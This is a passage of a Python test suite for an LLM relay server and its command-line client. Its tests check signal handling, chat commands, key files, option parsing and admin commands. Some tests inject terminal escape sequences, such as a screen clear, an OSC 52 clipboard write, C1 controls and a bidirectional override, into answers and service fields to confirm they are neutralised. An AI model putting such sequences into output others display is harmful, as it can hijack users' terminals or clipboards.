        assert path.stat().st_mode & 0o777 == 0o600 and path.read_text() == "ne_x\n"
        path.chmod(0o644)
    assert [file.name for file in path.parent.iterdir()] == ["x.key"]


def test_share_registers_its_name_though_the_variable_holds_the_key_of_another(
        start, tmp_path):
    _, relay = start_relay(start, tmp_path)
    key = ask(relay, "/api/services", {"name": "Other"})[1]["key"]
    with serving(type("Fake", (FakeLLM,), {"got": [], "script": []})) as url:
        for _ in range(2):                 # the second time its own key is in the file
            share = start("neuroengine.py", "share", "New", "--upstream", url,
                          NEUROENGINE_SERVER=relay.url, NEUROENGINE_KEY=key)
            share.says("Sharing New")
            assert "$NEUROENGINE_KEY" in share.output
            share.end()


def test_there_is_no_folder_called_tilde_where_there_is_no_home(
        command, relay, monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(os.path, "expanduser", lambda path: path)
    for name in ("XDG_CONFIG_HOME", "HOME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("NEUROENGINE_SERVER", relay.url)
    monkeypatch.delenv("NEUROENGINE_HOME", raising=False)
    assert neuroengine.main(["register", name_of()]) == 1
    assert os.listdir(str(tmp_path)) == []


def test_what_a_relay_says_of_keys_cannot_harm_the_terminal(command, relay, monkeypatch):
    evil = "\x1b[2J"
    answers = {"keys": [{"id": evil, "label": evil, "expires": 1e30}], "key": "ne_" + evil,
               "name": evil, "anonymous_per_day": evil, "queuelen": evil, "running": 0}
    looks = []

    def call(self, method, path, *args, **more):
        looks.append(path)
        return dict(answers, queuelen=0 if len(looks) > 3 else evil)
    monkeypatch.setattr(neuroengine.Transport, "call", call)
    monkeypatch.setattr(neuroengine, "DRAIN_LOOK_SECONDS", 0)
    texts = [command(relay, "keys", "X", *args)[1] for args in ([], ["--add", "a"], ["--drain"])]
    assert all(texts) and not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", "".join(texts))


@pytest.mark.parametrize("name", ["stdin", "stdout", "stderr"])
def test_the_command_line_runs_without_a_standard_stream(relay, monkeypatch, name):
    monkeypatch.setenv("NEUROENGINE_SERVER", relay.url)
    monkeypatch.setattr(sys, name, None)
    assert neuroengine.main(["models"]) == 0
    assert neuroengine.main(["ask", "x", "y"]) == 2


def test_a_reader_that_has_seen_enough_ends_the_program_quietly(start, relay, provide):
    closed = threading.Event()
    name, _ = provide(endless(closed))
    process = subprocess.Popen(
        [sys.executable, "-m", "neuroengine", "--relay", relay.url, "--service", name, "x"],
        cwd=HERE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert process.stdout.read(1) == b"x"
    process.stdout.close()
    assert process.wait(SOON) == 1 and process.stderr.read() == b""
    process.stderr.close()
    assert closed.wait(patient(1))


@pytest.mark.skipif(os.name == "nt", reason="needs POSIX signals")
@pytest.mark.parametrize("name, status", [("SIGTERM", 143), ("SIGHUP", 129), ("SIGINT", 130)])
def test_a_signal_stops_the_answer_under_way(start, relay, provide, name, status):
    closed, got = threading.Event(), []
    service, _ = provide(lambda request: got.append(request) or endless(closed)(request))
    program = start("neuroengine.py", "--relay", relay.url, "--service", service, "x")
    until(lambda: got)
    assert program.end(getattr(signal, name)) == status
    assert closed.wait(patient(1)) and "Traceback" not in program.output


def test_a_terminal_that_lacks_characters_shows_the_rest(start, relay, provide):
    name, _ = provide(lambda request: "one \u2603 two")
    for encoding in ("latin-1", "cp1252", "ascii"):
        start("neuroengine.py", "--relay", relay.url, "--service", name, "x",
              PYTHONIOENCODING=encoding).says(r"one \? two")


def test_what_others_wrote_never_commands_the_terminal(command, relay, provide):
    evil = "\x1b]52;c;aGk=\x07\x9b31m\r\x00"
    name, _ = provide(lambda request: "a%sb\n\tc" % evil)
    status, text = command(relay, "ask", "--service", name, "x")
    assert text.startswith("a\ufffd]52;c;aGk=") and text.endswith("b\n\tc\n")
    service = relay.broker.find(name)
    relay.registry.change(service, comment=evil + "\u202ecomment", operator=evil)
    text += command(relay, "models")[1]
    relay.registry.change(service, comment="", operator="")
    assert "comment" in text and not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", text)


@pytest.mark.parametrize("queue, words", [
    ({"position": 2, "waiting": 5, "eta_s": 8.5}, "position 2 of 5 in the queue, about 8 s"),
    ({"position": 1, "waiting": 1, "eta_s": None}, "position 1 of 1 in the queue"),
    ({"position": 9, "waiting": 9, "eta_s": 7200}, "position 9 of 9 in the queue, about 2 h"),
    ({"position": 9, "waiting": 9, "eta_s": 200000}, "position 9 of 9 in the queue, about 2 days"),
    ({"position": 1, "waiting": 1, "eta_s": None, "connected": False},
     "waiting for a provider ..."),
    ({"position": 1, "waiting": 1, "eta_s": math.inf}, "position 1 of 1 in the queue"),
    ({"position": 1, "waiting": 1, "eta_s": 10 ** 999}, "position 1 of 1 in the queue"),
    (None, "waiting ..."), ([1], "waiting ...")])
def test_the_position_in_the_queue_is_shown_in_words(queue, words):
    assert neuroengine.queue_words(queue) == words


def test_ask_says_that_it_waits_for_a_provider_that_has_just_left(command, relay, monkeypatch):
    hand = Hand(relay)
    hand.logout()
    monkeypatch.setattr(neuroengine.Call, "pause", lambda *_: None)
    status, said = command(relay, "ask", "--service", hand.name, "hi")
    waiting, error = said.splitlines()
    assert status == 1 and re.match(
        r"No provider of %s is connected since .*; trying again in 6 s\.$" % hand.name, waiting)
    assert error.endswith("Try again later, or add --wait to wait for a provider.")


def test_models_tells_the_state_of_each_service(command, relay, provide, monkeypatch):
    models = [dict(name="B", connected=False, last_seen=time.time() - 7200),
              dict(name="A", connected=False, private=True, last_seen=-math.inf),
              dict(name="D", paused=True),
              dict(name="C", connected=True, vision=True, tools=True, context_length=32768,
                   tokens_per_second=45.2, apis=["embeddings"], queuelen=3, comment="c",
                   operator="o"), "no dict"]
    monkeypatch.setattr(Neuroengine, "getModels", lambda self: models)
    lines = [re.sub("  +", "|", line) for line in command(relay, "models")[1].splitlines()]
    assert lines == ["NAME|STATE|SPEED|CAN|WAITING|ABOUT",
                     "C|connected|45.2 tokens/s|32k, images, tools, embeddings|3|c (o)",
                     "A|never connected, private", "B|offline, last seen 2 h ago", "D|paused"]
    assert len(json.loads(command(relay, "models", "--json")[1])) == 4


def test_an_operator_describes_rekeys_and_unregisters_a_service(command, relay, monkeypatch):
    name = name_of()
    old = command(relay, "register", name)[1].split()[-1]
    text = command(relay, "describe", name, "--operator", "Ann", "--comment", "Gemma")[1]
    assert "operator: Ann\ncomment: Gemma" in text
    assert command(relay, "describe", name, "--comment", "a\nb")[1].startswith("--comment must")
    text = command(relay, "keys", name)[1]
    assert "is open to everybody, never connected" in text and "no access keys" in text
    new = command(relay, "new-key", name)[1].split()[-1]
    assert new != old and command(relay, "keys", name)[0] == 0
    monkeypatch.setattr(sys, "stdin", io.StringIO("no\n"))
    status, text = command(relay, "unregister", name)
    assert status == 2 and "--yes" in text
    monkeypatch.setattr(neuroengine, "is_terminal", lambda stream: True)
    assert "Nothing was deleted" in command(relay, "unregister", name)[1]
    assert command(relay, "unregister", name, "--yes")[0] == 0
    assert ask(relay, "/api/services/" + name)[0] == 404


@pytest.fixture
def chatting(command, relay, monkeypatch):
    """Have a chat with a service: what is printed after these inputs."""
    def chatting(name, *inputs):
        inputs = list(inputs)

        def type_next(prompt=""):
            text = inputs.pop(0) if inputs else EOFError()
            if isinstance(text, BaseException):
                raise text
            return text
        monkeypatch.setattr("builtins.input", type_next)
        status, text = command(relay, "chat", "--service", name)
        assert status == 0 and not inputs
        return re.sub("\n(?=[a-z])", " ", text)     # notes are wrapped
    return chatting


def test_chat_keeps_the_conversation_and_obeys_its_commands(chatting, provide, tmp_path):
    got = []
    name, _ = provide(lambda request: got.append(request) or "answer %d" % len(got))

    def said():
        return [m["content"] for m in got[-1].get("messages") or ()]
    path = tmp_path / "talk.md"
    text = chatting(name, "hello", "/system Be brief", "/set temperature 0.2", "more", "/retry",
                    "/save %s" % path, "/save %s" % path, "/clear", "/load %s" % path,
                    "/continue", "/edit", "changed", "/set temperature -", "/retry")
    assert "answer 1\n" in text and "1 token, " in text and "Loaded 4 messages" in text
    assert [r.get("temperature") for r in got] == [1.0, 0.2, 0.2, 0.2, 0.2, 1.0]
    assert [m["content"] for m in got[3]["messages"]] == [
        "Be brief", "hello", "answer 1", "more", "answer 3"]
    assert said() == ["Be brief", "hello", "answer 1", "changed"]
    assert neuroengine.from_markdown(path.read_text())[2][1] == {
        "role": "assistant", "content": "answer 1"}


def test_a_conversation_that_cannot_be_saved_is_kept_and_nothing_is_lost(
        chatting, provide, tmp_path, monkeypatch):
    name, _ = provide(lambda request: "answer")
    path, replace = tmp_path / "talk.md", os.replace
    half = Neuroengine._events

    def events(self, *args):
        for kind, value in half(self, *args):
            yield kind, value + "\ud800" if kind == "text" else value
    monkeypatch.setattr(Neuroengine, "_events", events)
    chatting(name, "hello", "/save %s" % path)
    assert "answer?" in path.read_text()
    monkeypatch.setattr(os, "replace", lambda *names: replace("no such file", names[1]))
    text = chatting(name, "/save %s" % (tmp_path / "b.md"), "/save a\0b")
    assert "No such file" in text and "null" in text and os.listdir(str(tmp_path)) == ["talk.md"]


def test_chat_tells_what_it_does_not_know_and_goes_on(chatting, provide, tmp_path):
    name, _ = provide(lambda request: "ok")
    (tmp_path / "other").write_text("my notes")
    text = chatting(name, "/bogus", "/set foo 1", "/set seed x", "/retry", "/continue", "/edit",
                    "/model nosuch", "/load %s" % (tmp_path / "nosuch"), "/load %s" % (
                        tmp_path / "other"), "/save %s" % (tmp_path / "other"), "/save",
                    KeyboardInterrupt(), "/usr/bin is a path", "/quit")
    for words in ("no /bogus", "no parameter foo", "seed takes a number", "nothing to ask again",
                  "no answer to go on with", "no message of yours", "no service nosuch",
                  "No such file", "holds no conversation", "exists already", "Name a file",
                  "Ctrl-D leaves", "ok\n"):
        assert words in text
    assert (tmp_path / "other").read_text() == "my notes"


def test_ctrl_c_in_chat_stops_the_answer_and_keeps_it(chatting, provide, monkeypatch):
    closed, got = threading.Event(), []

    def answer(request):
        got.append(request)
        return endless(closed)(request) if len(got) == 1 else ["rest"]
    name, _ = provide(answer)
    take = neuroengine.Answer._take

    def interrupted(self, kind, value):
        take(self, kind, value)
        if kind == "text" and len(got) == 1:
            raise KeyboardInterrupt
    monkeypatch.setattr(neuroengine.Answer, "_take", interrupted)
    text = chatting(name, "hello", "/continue")
    assert "stopped: /continue" in text and closed.wait(patient(1))
    assert got[1]["messages"][-1]["role"] == "assistant"
    assert set(got[1]["messages"][-1]["content"]) == {"x"}


def test_a_conversation_is_saved_as_the_page_exports_it(chatting, provide, tmp_path):
    name, _ = provide(lambda request: ["cut ## You <!-- message:user -->",
                                       {"finish_reason": "length"}])
    assert "cut at the length limit: /continue" in chatting(
        name, "one\ntwo --> three", "/save %s" % (tmp_path / "c.md"))
    text = (tmp_path / "c.md").read_text()
    assert text.startswith("# one\n\n<!-- conversation:{") and text.count("<!-- message:") == 2
    service, system, messages = neuroengine.from_markdown(text)
    assert service == name and messages[0]["content"] == "one\ntwo --> three"
    assert messages[1]["content"].startswith("cut ## You <!-- message")


@pytest.mark.skipif(os.name == "nt", reason="needs a pseudo-terminal")
def test_chat_on_a_terminal_takes_a_pasted_block_as_one_message(relay, provide):
    import pty
    got = []
    name, _ = provide(lambda request: got.append(request["message"]) or "ok")
    here, there = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "neuroengine", "chat", "--relay", relay.url, "--service", name],
        cwd=HERE, stdin=there, stdout=there, stderr=there, close_fds=True,
        env=dict(os.environ, TERM="xterm"))
    os.close(there)
    shown = b""
    with contextlib.closing(os.fdopen(here, "r+b", 0)) as terminal:
        def see(pattern):
            nonlocal shown
            deadline = time.monotonic() + SOON
            while not re.search(pattern, shown):
                assert time.monotonic() < deadline, shown
                if select.select([here], [], [], 0.1)[0]:
                    shown += os.read(here, 65536)
        see(b"> ")
        terminal.write(b"\x1b[200~one\ntwo\n\x1b[201~")
        see(b"two")
        terminal.write(b"\r")
        see(b"(?s)ok\r\n.*> ")              # Ctrl-D is for a prompt, not for an answer
        terminal.write(b"\x04")
        assert process.wait(patient(40)) == 0
    assert got == ["one\ntwo"]


def test_lines_that_come_at_once_are_one_message_without_readline(
        chatting, provide, monkeypatch):
    got = []
    name, _ = provide(lambda request: got.append(request["message"]) or "ok")
    monkeypatch.setattr(neuroengine, "load_readline", lambda words: None)
    monkeypatch.setattr(neuroengine, "is_terminal", lambda stream: stream is sys.stdin)
    waits = [True, True, False, False, False]
    monkeypatch.setattr(neuroengine, "input_waits", lambda: waits.pop(0) if waits else False)
    chatting(name, "one", "two", "three", "/quit")
    assert got == ["one\ntwo\nthree"]


def test_old_consoles_get_no_escape_codes(monkeypatch):
    class Terminal(io.StringIO):
        def isatty(self):
            return True
    for name, value in (("TERM", "dumb"), ("NO_COLOR", "1")):
        with monkeypatch.context() as patch:
            patch.setenv("TERM", "xterm")
            assert os.name == "nt" or neuroengine.understands_escapes(Terminal())
            patch.setenv(name, value)
            assert not neuroengine.understands_escapes(Terminal())
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setattr(neuroengine.os, "name", "nt")        # without a Windows behind it
    assert not neuroengine.understands_escapes(Terminal())
    lines = neuroengine.try_it_lines("http://r", "X", types.SimpleNamespace(
        ca=None, insecure=False))
    assert "curl.exe http://r/X -d \"{\\\"message\\\"" in lines[0] and "irm" in lines[1]
    terminal = Terminal()
    line = neuroengine.Line(terminal)
    line.show("position 2 of 5\x1b[2J"), line.show("")
    assert "\x1b" not in terminal.getvalue() and terminal.getvalue().endswith("\r")


def test_windows_is_asked_for_waiting_input_in_its_own_way(monkeypatch):
    monkeypatch.setitem(sys.modules, "msvcrt", types.SimpleNamespace(kbhit=lambda: 1))
    assert neuroengine.input_waits() is True


def test_the_client_works_without_what_some_systems_lack(command, relay, provide, monkeypatch):
    for name in ("TCP_KEEPIDLE", "TCP_KEEPALIVE", "TCP_KEEPINTVL", "TCP_KEEPCNT"):
        monkeypatch.delattr(socket, name, raising=False)
    monkeypatch.delattr(signal, "SIGHUP", raising=False)
    monkeypatch.setitem(sys.modules, "readline", None)
    monkeypatch.setattr(os, "fchmod", None, raising=False)
    name, _ = provide(lambda request: "ok")
    assert command(relay, "ask", "--service", name, "x") == (0, "ok\n")
    assert command(relay, "register", name_of())[0] == 0
    assert neuroengine.load_readline([]) is None


AS_ON_WINDOWS = """
import contextlib, os, select, signal, socket, sys, types
import neuroengine_server
for holder, names in (
        (select, "epoll poll kqueue EPOLLRDHUP"), (signal, "SIGHUP SIGUSR1 pthread_sigmask"),
        (socket, "SO_REUSEPORT MSG_DONTWAIT"),
        (os, "sched_setaffinity sched_getaffinity sched_setscheduler chown O_NOFOLLOW getuid")):
    for name in names.split():
        with contextlib.suppress(AttributeError):
            delattr(holder, name)
neuroengine_server.MSG_DONTWAIT = 0
for module in ("fcntl", "resource", "pwd"):
    sys.modules[module] = None
sys.modules["msvcrt"] = types.SimpleNamespace(locking=lambda *_: None, LK_NBLCK=2)
sys.exit(neuroengine_server.main(sys.argv[1:]))
"""


def test_a_relay_works_without_what_windows_lacks(start, tmp_path):
    program = start("-c", AS_ON_WINDOWS, "--host", "127.0.0.1", "--port", 0, "--data",
                    tmp_path / "data.sqlite3")
    relay, closed = Address(program), threading.Event()
    service = ask(relay, "/api/services", {"name": name_of()})[1]
    server = NeuroengineServer(relay.url)
    assert server.login(service["name"], service["key"]) == 0
    serving = threading.Thread(target=server.listen, daemon=True, args=(
        lambda request: endless(closed)(request) if request["message"] == "on" else "ok", 4))
    serving.start()
    api = Neuroengine(service["name"], relay.url)
    with contextlib.closing(api.stream("on")) as texts:
        assert next(texts) and next(texts)
    assert closed.wait(SOON)
    assert list(api.map(["x"] * 4, at_once=4)) == ["ok"] * 4
    server.stop()
    serving.join(SOON)
    assert program.end(signal.SIGINT) == 0 and "Traceback" not in program.output


def test_two_relays_cannot_share_a_port_on_windows(monkeypatch):
    # Any option that can be read back stands for the one that Linux lacks.
    monkeypatch.setattr(socket, "SO_EXCLUSIVEADDRUSE", socket.SO_KEEPALIVE, raising=False)
    with contextlib.closing(Relay("127.0.0.1", 0).socket) as sock:
        assert sock.getsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE)
        assert not sock.getsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR)


def test_a_console_of_windows_is_asked_whether_it_takes_escape_codes(monkeypatch):
    terminal = io.StringIO()
    terminal.isatty = lambda: True
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm")
    for answer in (0, 1):
        kernel = types.SimpleNamespace(GetStdHandle=lambda n: 7, GetConsoleMode=lambda *a: 1,
                                       SetConsoleMode=lambda *a, yes=answer: yes)
        monkeypatch.setattr(ctypes, "windll", types.SimpleNamespace(kernel32=kernel),
                            raising=False)
        with monkeypatch.context() as patch:
            patch.setattr(neuroengine.os, "name", "nt")
            assert neuroengine.understands_escapes(terminal) is bool(answer)


def test_an_older_python_is_told_in_one_sentence():
    for version in ((3, 7, 9), (3, 6, 1)):
        code = ("import runpy, sys; sys.version_info = %r\n"
                "runpy.run_path('neuroengine.py', run_name='__main__')" % (version,))
        done = subprocess.run([sys.executable, "-c", code], cwd=HERE, stderr=subprocess.PIPE)
        assert done.returncode == 1
        assert done.stderr.decode().strip() == (
            "neuroengine needs Python 3.8 or newer; this is Python %d.%d." % version[:2])


def test_all_public_signatures_have_type_hints():
    for thing in (Neuroengine, NeuroengineError, neuroengine.Reply, neuroengine.main):
        functions = [thing] if inspect.isfunction(thing) else [
            f for name, f in vars(thing).items() if inspect.isfunction(f) and (
                name[0] != "_" or name == "__init__")]
        for function in functions:
            parameters = list(inspect.signature(function).parameters.values())
            hints = function.__annotations__
            assert "return" in hints and all(
                p.name in hints for p in parameters if p.name != "self"), function


def test_help_is_short_and_help_all_names_every_limit(capsys):
    short = neuroengine_server.build_parser().format_help()
    long = neuroengine_server.build_parser(everything=True).format_help()
    for name, default, group, _ in neuroengine_server.LIMITS:
        option = r"--%s N(?s:.)*?\(default:\s+%s\)" % (name.replace("_", "-"), default)
        assert re.search(option, long), name
        assert bool(re.search(option, short)) == (group != "more"), name
    for command in neuroengine.COMMANDS:
        assert command in neuroengine.build_parser().format_help()
    with pytest.raises(SystemExit) as ended:
        neuroengine_server.main(["--help-all"])
    assert ended.value.code == 0 and "--handshake-seconds" in capsys.readouterr().out


@pytest.mark.parametrize("args, limits", [
    ([], Limits()), (["--max-polls", "2000", "--max-waiting", "400"],
                     Limits(max_polls=2000, max_waiting=400)),
    (["--max-connections", "100"], Limits(max_connections=100, max_polls=40, max_waiting=56)),
    (["--max-connections", "1"], Limits(max_connections=1, max_polls=1, max_waiting=1)),
    (["--lease-seconds", "3"], Limits(lease_seconds=3, busy_poll_seconds=1)),
    (["--max-held-bytes", str(32 << 20)],
     Limits(max_held_bytes=32 << 20, max_request_bytes=(32 << 20) * 9 // 40))])
def test_limits_fit_those_that_they_depend_on(args, limits):
    assert vars(neuroengine_server.limits_of(neuroengine_server.parse(args))) == vars(limits)


def test_a_body_that_can_never_fit_into_memory_hears_that_it_is_too_large():
    """It was told to try again."""
    limits = neuroengine_server.limits_of(neuroengine_server.parse(
        ["--max-held-bytes", "4000000"]))
    with running_relay(limits=limits) as own:
        hand = Hand(own)
        for size, status in ((limits.max_request_bytes, 200), (limits.max_request_bytes + 1, 413)):
            body = b'{"message":"%s"}' % (b"x" * (size - 14))
            waiting = in_thread(ask, own, "/" + hand.name, body, X_Forwarded_For="203.0.113.9")
            if status == 200:
                hand.reply(hand.next_job(), ["y"], done=True)
            assert waiting()[0] == status
        hand.logout()


def test_a_limit_that_help_does_not_show_is_an_option_all_the_same():
    assert neuroengine_server.parse(["--idle-seconds", "7"]).idle_seconds == 7


@pytest.mark.parametrize("args, words", [
    ("--prot 8000", "unknown option --prot; did you mean --port?"),
    ("-port 8000", "unknown option -port; did you mean --port?"),
    ("--data x --prot=8000", "unknown option --prot; did you mean --port?"),
    ("--nothing-like-it", "unknown option --nothing-like-it; see --help and --help-all"),
    ("doctr", "unknown command doctr; did you mean doctor?"),
    ("8000", "unknown command 8000; did you mean --port 8000?"),
    ("--port 99999", "--port: a port is a number from 0 to 65535, not 99999"),
    ("--port", "--port needs a value"),
    ("--max-queue -1", "--max-queue: a whole number of at least 1 is needed, not -1"),
    ("--max-queue many", "--max-queue: a whole number of at least 1 is needed, not many"),
    ("--grace-seconds nan", "--grace-seconds: a number of at least 0 is needed, not nan"),
    ("--trusted-proxy here", "--trusted-proxy: an address (10.0.0.1) or network"),
    ("--ssl", "unknown option --ssl; did you mean --cert?"),
    ("register", "unknown command register; the client has it: %s register"
     % neuroengine.how_to_run("neuroengine.py")),
    ("start", "unknown command start; the relay starts without one"),
    ("list x", "list takes no argument"),
    ("backup a b", "backup takes one argument: FILE"),
    ("reset-key", "reset-key needs an argument: reset-key NAME"),
    ("delete", "delete needs a name or pattern, or --unused-since DAYS"),
    ("list --yes", "--unused-since and --yes belong to the command delete"),
    ("--demo --data x", "--demo keeps nothing on disk: leave --data out"),
    ("--trusted-hops 2", "--trusted-hops needs the --trusted-proxy"),
    ("--acme-port 81", "--acme-port needs --acme-webroot")])
def test_a_command_line_that_makes_no_sense_is_refused_in_one_sentence(
        args, words, capsys):
    with pytest.raises(SystemExit) as ended:
        neuroengine_server.main(args.split())
    text = capsys.readouterr().err
    assert ended.value.code == 2 and words in text and text.count("\n") == 1


def test_help_of_a_command_is_about_that_command(capsys):
    for words in (["reset-key", "--help"], ["--data", "x", "-h", "reset-key"]):
        with pytest.raises(SystemExit) as ended:
            neuroengine_server.main(words)
        text = capsys.readouterr().out
        assert ended.value.code == 0 and "reset-key NAME" in text and text.count("\n") < 9


@pytest.mark.parametrize("version", ["2.7", "3.6", "3.7"])
def test_an_old_python_is_refused_in_words(version):
    python = shutil.which("python" + version)
    result = python and subprocess.run(
        [python, "neuroengine_server.py"], cwd=HERE, stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT, timeout=SOON)
    if not result or b"command not found" in result.stdout:
        pytest.skip("there is no Python " + version)
    assert b"neuroengine needs Python 3.8 or newer" in result.stdout
    assert result.returncode == 1 and b"Traceback" not in result.stdout


# The data file, its lock, and the commands on it.


@pytest.fixture
def admin(tmp_path, capsys):
    """Run a command on a data file: (exit status, what it printed)."""
    def admin(*args):
        status = neuroengine_server.main([*args, "--data", str(tmp_path / "data.sqlite3")])
        out, err = capsys.readouterr()
        return status, out + err
    return admin


@pytest.fixture
def data_file(tmp_path):
    """Put services into a data file: name -> days since they were last seen, or None."""
    def data_file(**services):
        with contextlib.closing(Store(str(tmp_path / "data.sqlite3"))) as store:
            for name, days in services.items():
                store.add(Service(name, "digest of " + name, created=1, last_seen=days
                                  and time.time() - days * 86400))
        return tmp_path / "data.sqlite3"
    return data_file


def names_in(path):
    with contextlib.closing(Store(str(path), existing=True)) as store:
        return {service.name for service in store.load()}


def test_ctrl_c_of_a_provider_hands_its_jobs_back_at_once(start, relay):
    hand = Hand(relay)
    hand.logout()
    first = start("-c", PROVIDER, relay.url, hand.name, hand.key, 0.1)
    first.says("login 0")
    # A client that waits for the whole reply has seen no token of it.
    answer = in_thread(Neuroengine(hand.name, relay.url).request, "80", wait=True)
    service = relay.broker.find(hand.name)
    job = until(lambda: [j for s in service.sessions.values() for j in s.jobs()])[0]
    until(lambda: len(job.items) > 5)
    began = time.monotonic()
    first.process.send_signal(signal.SIGINT)
    until(lambda: job.state == "queued")
    assert time.monotonic() - began < patient(1)
    second = start("-c", PROVIDER, relay.url, hand.name, hand.key)
    assert answer() == numbers(80)
    assert first.ended() == 0 and "listen returned" in first.output
    assert "Traceback" not in first.output
    second.end(signal.SIGINT)


STUCK = """
import asyncio, types
import neuroengine
class Stuck:
    server, status = types.SimpleNamespace(), neuroengine.Status()
    def stop(self):
        pass
    async def run(self):
        print("runs", flush=True)
        await asyncio.sleep(60)
neuroengine.run_listenings([Stuck()])
print("returned")
"""


@pytest.mark.skipif(os.name == "nt", reason="needs POSIX signals")
def test_a_second_signal_ends_a_provider_at_once_and_quietly(start):
    for second in (signal.SIGINT, signal.SIGTERM):
        program = start("-c", STUCK)
        program.says("runs")
        program.process.send_signal(signal.SIGINT)
        program.says("Stopping")
        program.process.send_signal(second)
        program.says("returned")
        assert program.process.wait(SOON) == 0 and "Traceback" not in program.output


@pytest.mark.skipif(os.name == "nt", reason="needs POSIX signals")
def test_a_provider_of_a_deleted_service_ends_in_words(start, relay):
    hand = Hand(relay)
    provider = start("server-example.py", hand.name, hand.key, NEUROENGINE_SERVER=relay.url)
    provider.says("Logged in")
    ask(relay, "/api/services/" + hand.name, method="DELETE", Authorization="Bearer " + hand.key)
    provider.says("Stopped sharing: There is no service %s at %s" % (hand.name, relay.url))
    assert provider.process.wait(SOON) == 1 and "Traceback" not in provider.output


def test_listen_after_a_login_that_failed_says_why_in_a_short_traceback(relay, hand):
    server = NeuroengineServer(relay.url)
    server.login(hand.name, "wrong")
    with pytest.raises(NeuroengineError, match="This is not the service key of .* Pass login") as (
            failed):
        server.listen(count_to(1))
    assert len(failed.traceback) == 2 and failed.value.__suppress_context__


@pytest.mark.skipif(os.name == "nt", reason="needs POSIX signals")
def test_sigterm_of_a_provider_hands_its_jobs_back_at_once(start, relay):
    hand = Hand(relay)
    hand.logout()
    provider = start("-c", PROVIDER, relay.url, hand.name, hand.key)
    provider.says("login 0")
    in_thread(Neuroengine(hand.name, relay.url).request, "1000", tries=1)
    service = relay.broker.find(hand.name)
    job = until(lambda: [j for s in service.sessions.values() for j in s.jobs()])[0]
    provider.process.send_signal(signal.SIGTERM)
    until(lambda: job.state == "queued", 2)
    assert provider.ended() == 0 and "listen returned" in provider.output


@pytest.mark.skipif(os.name == "nt", reason="needs POSIX signals")
def test_a_provider_killed_amid_a_whole_reply_is_replaced(start, relay):
    hand = Hand(relay)
    hand.logout()
    first = start("-c", PROVIDER, relay.url, hand.name, hand.key, 0.1)
    first.says("login 0")
    answer = in_thread(Neuroengine(hand.name, relay.url).request, "100", wait=True)
    service = relay.broker.find(hand.name)
    job = until(lambda: [j for s in service.sessions.values() for j in s.jobs()])[0]
    until(lambda: len(job.items) > 5)
    began = time.monotonic()
    first.end(signal.SIGKILL)
    until(lambda: job.state == "queued")
    assert time.monotonic() - began < patient(1)
    start("-c", PROVIDER, relay.url, hand.name, hand.key)
    assert answer() == numbers(100) and service.numreq == 1


@pytest.mark.skipif(os.name == "nt", reason="needs POSIX signals")
def test_sigterm_lets_running_answers_finish_and_exits_cleanly(start, tmp_path):
    program, relay = start_relay(start, tmp_path)
    hand = Hand(relay)
    answer = in_thread(ask, relay, "/" + hand.name, {"message": "x"})
    job = hand.next_job()
    poll = in_thread(ask, relay, "/provider/%s/poll" % hand.name, {
        "session": hand.session, "running": [[job["job"], 1]]},
        Authorization="Bearer " + hand.key)
    program.process.send_signal(signal.SIGTERM)
    program.says("stopping .*a second signal ends the relay at once")
    until(lambda: ask(relay, "/" + hand.name, {"message": "y"})[0] == 503)
    hand.reply(job, ["finished"], done=True)
    assert answer()[1]["reply"] == "finished"
    assert program.process.wait(SOON) == 0
    poll()
    assert program.ended() == 0 and "Traceback" not in program.output


@pytest.mark.skipif(os.name == "nt", reason="needs POSIX signals")
def test_a_signal_that_reaches_another_thread_than_the_main_one_ends_the_relay(start):
    program = start("-c", """
import neuroengine_server, signal, threading, time
def end():
    while signal.getsignal(signal.SIGTERM) == signal.SIG_DFL:
        time.sleep(0.01)
    signal.pthread_kill(threading.get_ident(), signal.SIGTERM)
threading.Thread(target=end).start()
neuroengine_server.main(["--demo", "--port", "0"])""")
    assert program.process.wait(SOON) == 0


def test_admin_commands_work_on_the_file_while_the_relay_runs(start, tmp_path, admin):
    program, relay = start_relay(start, tmp_path, "--registration", "invited")
    code = admin("invite", "2")[1].split("\n")[-2]
    old = {name: ask(relay, "/api/services", {"name": name, "invitation": code})[1]["key"]
           for name in ("One", "Two")}
    assert re.search(r"^One +0 prompts +0 keys +never connected", admin("list")[1], re.M)
    new = admin("reset-key", "one")[1].split("\n")[-2]
    assert admin("delete", "TWO")[0] == 0
    until(lambda: ask(relay, "/api/services/Two")[0] == 404)
    assert ask(relay, "/api/services/One", Authorization="Bearer " + old["One"])[0] == 401
    assert ask(relay, "/api/services/One", Authorization="Bearer " + new)[0] == 200
    assert ask(relay, "/api/services", {"name": "Two", "invitation": code})[0] == 403
    for args, words in ((["delete", "Two"], "no service Two"), (["invite", "0"], "USES"),
                        (["invite", "9" * 30], "USES"),
                        (["reset-key", "On"], "no service On; did you mean One?"),
                        (["backup", "/nosuch/x"], "Cannot write /nosuch/x")):
        status, text = admin(*args)
        assert status == 1 and words in text
    status = neuroengine_server.main(["list", "--data", str(tmp_path / "nosuch")])
    assert status == 1 and not (tmp_path / "nosuch").exists()
    assert program.end() == 0 and "Traceback" not in program.output


@pytest.mark.skipif(os.name == "nt", reason="needs SIGKILL")
def test_list_tells_connected_from_last_seen(start, tmp_path, admin):
    program, relay = start_relay(start, tmp_path)
    hand = Hand(relay)
    until(lambda: re.search(r"%s .* keys +connected" % hand.name, admin("list")[1]))
    program.end(signal.SIGKILL)
    text = admin("list")[1]                # killed without a word, so not connected
    assert re.search(r"%s .* last seen 20" % hand.name, text)
    assert "No relay is running" in text
    program, _ = start_relay(start, tmp_path)        # nor after the next start
    assert re.search(r"%s .* last seen 20" % hand.name, admin("list")[1])


def test_list_shows_private_paused_and_keys(data_file, admin):
    path = data_file(Quiet=None, Plain=1)
    with contextlib.closing(Store(str(path), existing=True)) as store:
        quiet = next(s for s in store.load() if s.name == "Quiet")
        store.change(quiet, private=1, paused=1, operator="Ann\x1b[2J")
    text = admin("list")[1]
